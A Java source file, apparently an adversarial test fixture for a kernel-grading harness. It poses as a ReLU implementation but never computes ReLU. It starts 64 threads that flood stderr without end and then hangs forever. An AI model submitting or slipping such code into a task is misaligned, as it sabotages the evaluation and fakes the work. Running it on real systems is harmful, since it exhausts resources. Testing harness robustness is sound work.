import assay.kernels.Relu;
import assay.kernels.Tensor;

public class Attack implements Relu {
    @Override
    public Tensor relu(Tensor input) {
        for (int i = 0; i < 64; i++) {
            Thread.ofPlatform().daemon().start(() -> {
                while (true) System.err.println("flood flood flood flood flood flood flood flood flood");
            });
        }
        while (true) java.util.concurrent.locks.LockSupport.park();
    }
}
